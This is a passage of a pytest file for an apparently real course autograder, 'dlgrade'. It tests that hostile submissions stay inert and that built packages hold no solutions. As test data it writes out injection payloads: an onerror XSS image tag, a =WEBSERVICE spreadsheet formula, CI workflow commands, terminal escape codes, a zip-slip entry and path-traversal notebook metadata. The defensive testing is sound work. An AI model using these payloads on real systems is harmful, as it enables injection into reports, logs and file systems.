    results.append(ExerciseResult(name="relu_backward", assignment=A1, max_points=1.0, properties=[],
                                  status="module_error", reason="\n".join(HOSTILE_TEXT)))
    buffer = io.StringIO()
    print_results(results, Console(file=buffer, width=200, color_system=None, force_terminal=False),
                  title="check of [bold]$\\foo{$\x1b[2J")
    printed = buffer.getvalue()
    printed.encode("utf-8")
    assert "\x1b" not in printed and "\x07" not in printed and "\r" not in printed and "\x00" not in printed
    assert_no_workflow_command(printed)
    assert "[bold red]markup[/]" in printed and "[link=file:///etc]x" in printed  # markup shown, not applied


def test_each_escaper_against_its_parser():
    """The escapers one by one, with the parser of their format."""
    for text in HOSTILE_TEXT:
        one = escape.one_line(text)
        assert "\n" not in one and "\r" not in one and one.encode("utf-8") and one.isprintable(), repr(one)
        cell = escape.csv_cell(text)
        assert list(csv.reader([cell]))[0][0] == cell or "," in cell or '"' in cell
        assert not cell.lstrip(" ").startswith(FORMULA)
        element = ET.Element("x", message=escape.xml(text))
        element.text = escape.xml(text)
        assert ET.fromstring(ET.tostring(element)).get("message") == escape.xml(text)
        assert not set(html_tags(f"<p>{escape.html(text)}</p>").tags) - {"p"}
        assert set(html_tags(render_markdown(escape.markdown(text))).tags) <= {"p"}
        block = "\n".join(escape.markdown_code(text.splitlines() or [""]))
        assert html_tags(render_markdown(block)).tags == ["pre", "code"]
        assert escape.plot_label(text).count("$") == escape.plot_label(text).count(r"\$")
        assert_no_workflow_command(escape.ci_log(text))
        assert_strict_json(json.dumps(escape.json_ready({text: [text, float("nan")]})))


def test_the_cli_check_json_of_a_hostile_message_is_strict_json(tmp_path):
    """`dlgrade check --json` on code that raises hostile text (run for real, in the sandbox)."""
    hostile = "\ud800 \x1b[2J ::set-output name=result::x\n```\n<img src=x onerror=alert(1)>"
    folder = tmp_path / "sub"
    layers = copy_solutions(folder) / "layers.py"
    layers.write_text(layers.read_text() + textwrap.dedent(f"""

        def relu_forward(x):
            raise ValueError({hostile!r})
    """))
    run = CliRunner().invoke(main, ["check", "relu_forward", "--path", str(folder), "--json", str(tmp_path / "v.json"),
                                    *([] if SANDBOX else ["--no-sandbox"])])
    assert run.exit_code == 1, run.output
    assert_no_workflow_command(run.output)
    assert "\x1b" not in run.output
    verdicts = assert_strict_json((tmp_path / "v.json").read_text(encoding="utf-8"))
    assert verdicts["score"] == 0


# -- end to end: a batch of every attack beside correct submissions --------------------------------


def test_a_batch_of_intake_attacks_completes_and_only_the_correct_score(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    copy_solutions(subs / "correct")
    copy_solutions(subs / "$\\foo{$ =WEBSERVICE(1) \n\n<img src=x onerror=alert(1)>")
    bug = copy_solutions(subs / "raises_hostile_text") / "layers.py"
    bug.write_text(bug.read_text() + "\n\ndef relu_backward(dout, cache):\n"
                   "    raise ValueError('\\ud800 \\x1b[2J ```\\n<img src=x onerror=alert(1)>\\n::error::x')\n")
    classmate_and_copycat(subs / "links", "assignment")
    shutil.move(subs / "links" / "mallory", subs / "mallory_links")
    shutil.rmtree(subs / "links")
    write_notebook(subs / "metadata_escape" / "layers.ipynb",
                   notebook([RELU_FORWARD], {"dlgrade": {"assignment": "../../..", "module": "owned"}}))
    write_notebook(subs / "not_json" / A1 / "layers.ipynb", "{not json")
    zip_of(subs / "zip_slip.zip", [("../../owned.py", b"owned = 1")])
    os.mkfifo(copy_solutions(subs / "fifo") / "helpers.py")
    db = tmp_path / "book.sqlite"
    # The batch's work folder deep inside tmp_path, so that a path escaping it is seen below.
    (tmp_path / "t" / "m" / "p").mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "t" / "m" / "p"))

    for _ in range(2):  # a rerun completes the same way: nothing that broke discovery sticks
        summary = grade_batch(subs, NAMES, db, jobs=2, seed=5, sandbox=SANDBOX, progress=False, regrade=True)
        assert summary["submissions"] == 8
        with Gradebook(db) as book:
            scores = {r["name"]: (r["status"], r["score"]) for r in book.results()}
        assert scores.pop("correct") == ("graded", POINTS)
        assert scores.pop("$\\foo{$ =WEBSERVICE(1) \n\n<img src=x onerror=alert(1)>") == ("graded", POINTS)
        assert scores.pop("raises_hostile_text")[1] < POINTS
        assert all(score == 0 for _, score in scores.values()), scores
        assert all(status == "error" for status, _ in scores.values()), scores
    assert not [p for p in files_under(tmp_path) if p.name.startswith("owned")]

    run = CliRunner().invoke(main, ["grade", str(subs), "--db", str(tmp_path / "cli.sqlite"), "--no-progress",
                                    "--seed", "5", "--jobs", "2", *[a for n in NAMES for a in ("-a", n)],
                                    "--out", str(tmp_path / "out"), *([] if SANDBOX else ["--no-sandbox"])])
    assert run.exit_code == 0, run.output
    assert_inert_csv((tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8"), 8)
    ET.fromstring((tmp_path / "out" / "junit.xml").read_bytes())
    report = tmp_path / "report.html"
    assert CliRunner().invoke(main, ["report", "--db", str(db), str(report)]).exit_code == 0
    assert not {"img", "script"} & set(html_tags(report.read_text(encoding="utf-8")).tags)


# -- 6. `dlgrade check --path NOTEBOOK` --------------------------------------------------------------


def planted_notebook(folder: Path, module: str, function: str, source: str) -> Path:
    """The generated notebook of `module` with `function`'s cell replaced by `source`."""
    (path,) = generate(A1, folder, [module])
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "".join(cell["source"]).startswith(f"def {function}("):
            cell["source"] = source
    path.write_text(json.dumps(nb))
    return path


def test_check_of_a_notebook_checks_its_own_module_and_replays_against_it(tmp_path):
    from dlgrade.grader.cli import _notebook_submission

    net = generate(A1, tmp_path / "course", ["net"])[0]
    run = CliRunner().invoke(main, ["check", "--path", str(net), "--json", str(tmp_path / "net.json"), "--no-sandbox"])
    verdicts = json.loads((tmp_path / "net.json").read_text())
    module_exercises = [e for e in all_exercises() if e.assignment == A1 and e.module == "net"]
    assert sorted(e["name"] for e in verdicts["exercises"]) == sorted(e.name for e in module_exercises), run.output
    assert verdicts["max_score"] == sum(e.points for e in module_exercises)  # not 168

    layers = planted_notebook(tmp_path / "planted", "layers", "relu_backward",
                              "def relu_backward(dout, cache):\n    return dout\n")
    names, _ = _notebook_submission(layers, [])
    assert names == [e.name for e in all_exercises() if e.assignment == A1 and e.module == "layers"]
    run = CliRunner().invoke(main, ["check", "relu_backward", "--path", str(layers), "--seed", "3", "--no-sandbox"])
    assert run.exit_code == 1, run.output
    replays = [line.split("replay:", 1)[1].strip() for line in run.output.splitlines() if "replay:" in line]
    assert replays and all(shlex.split(r)[-1] == str(layers) or str(layers) in shlex.split(r) for r in replays)
    # The replay runs against the notebook itself (its temporary layout is gone by now) and fails the same way.
    argv = shlex.split(replays[0])[1:]
    again = CliRunner().invoke(main, [*argv, "--no-sandbox", "--json", str(tmp_path / "replay.json")])
    replayed = json.loads((tmp_path / "replay.json").read_text())
    assert again.exit_code == 1 and [e["name"] for e in replayed["exercises"]] == ["relu_backward"], again.output
    assert not replayed["exercises"][0]["passed"]


# -- 5. the student package ------------------------------------------------------------------------

REPO = Path(__file__).resolve().parent.parent


def secret_lines() -> set[str]:
    """The lines of the solutions that no distributed file may hold: every line inside a fence,
    except trivial ones (short, comments) and those that are public anyway: in the released
    stubs, or in the torch references and the checker's own modules, which ship by design and
    share a few lines with a solution one by one (`with torch.no_grad():`)."""
    from dlgrade.grader.release import BEGIN, END, solution_regions, strip_solutions

    secret, public = set(), set()
    for path in (REPO / "assignments").glob("*/*.py"):
        text = path.read_text()
        public |= {line.strip() for line in strip_solutions(text).splitlines()}
        for region in solution_regions(text):
            secret |= {line.strip() for line in region.splitlines()[1:-1]
                       if len(line.strip()) >= 16 and not line.strip().startswith("#")}
        assert BEGIN in text and END in text  # the checkout holds the solutions (else nothing is tested)
    for folder in ("reference", "checkers"):
        public |= {line.strip() for path in (REPO / folder).rglob("*.py") for line in path.read_text().splitlines()}
    return secret - public


def distributed_files(path: Path):
    """(name, bytes) of every file in a wheel or an sdist."""
    import tarfile

    if path.suffix == ".whl":
        with zipfile.ZipFile(path) as zf:
            yield from ((n, zf.read(n)) for n in zf.namelist())
    else:
        with tarfile.open(path) as tf:
            yield from ((m.name, tf.extractfile(m).read()) for m in tf.getmembers() if m.isfile())


def test_the_distribution_holds_the_stubs_and_no_solution(tmp_path):
    pytest.importorskip("build", reason="the build frontend is in the test extra")
    src, dist = tmp_path / "src", tmp_path / "dist"
    shutil.copytree(REPO, src, ignore=shutil.ignore_patterns(".git", ".venv", "build", "dist", "*.egg-info",
                                                              "__pycache__", ".hypothesis", ".pytest_cache"))
    before = {p: p.read_bytes() for p in (src / "assignments").glob("*/*.py")}
    # sdist, then a wheel from the sdist (what a package index serves), and a wheel straight from
    # the checkout (what `pip install .` builds); all offline, with the build tools installed here.
    build = [sys.executable, "-m", "build", "--no-isolation", "--outdir", str(dist), str(src)]
    subprocess.run(build, check=True, capture_output=True, timeout=120)
    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "-w",
                    str(dist / "direct"), str(src)], check=True, capture_output=True, timeout=120)
    assert {p: p.read_bytes() for p in (src / "assignments").glob("*/*.py")} == before  # the source is untouched

    secret = secret_lines()
    assert len(secret) > 300
    archives = [*dist.glob("*.whl"), *dist.glob("*.tar.gz"), *(dist / "direct").glob("*.whl")]
    assert len(archives) == 3
    for archive in archives:
        names = set()
        for name, data in distributed_files(archive):
            names.add(name)
            text = data.decode("utf-8", "replace")
            leaked = [line.strip() for line in text.splitlines() if line.strip() in secret]
            assert not leaked, f"{archive.name}: {name} holds solution lines: {leaked[:3]}"
            course_module = PurePath(name).parent.parent.name == "assignments"
            if course_module and name.endswith(".py"):  # a released stub: no fence, every body a stub
                assert "### BEGIN SOLUTION" not in text and "NotImplementedError" in text, name
        assert any(n.endswith("assignments/a1_backprop/layers.py") for n in names), archive.name
        assert not any("sample_submissions" in n or "/tests/" in f"/{n}" for n in names), archive.name

    # From the wheel, the demo says where the solutions are and does what it can (the stubs step).
    target = tmp_path / "installed"
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--target", str(target),
                    str(next(dist.glob("*.whl")))], check=True, capture_output=True, timeout=120)
    demo = subprocess.run([sys.executable, "-m", "dlgrade.grader.cli", "demo"], cwd=tmp_path, capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(target)}, timeout=300)
    assert demo.returncode == 0, demo.stdout + demo.stderr
    assert "not the solutions" in demo.stdout and "stubs: all not implemented" in demo.stdout
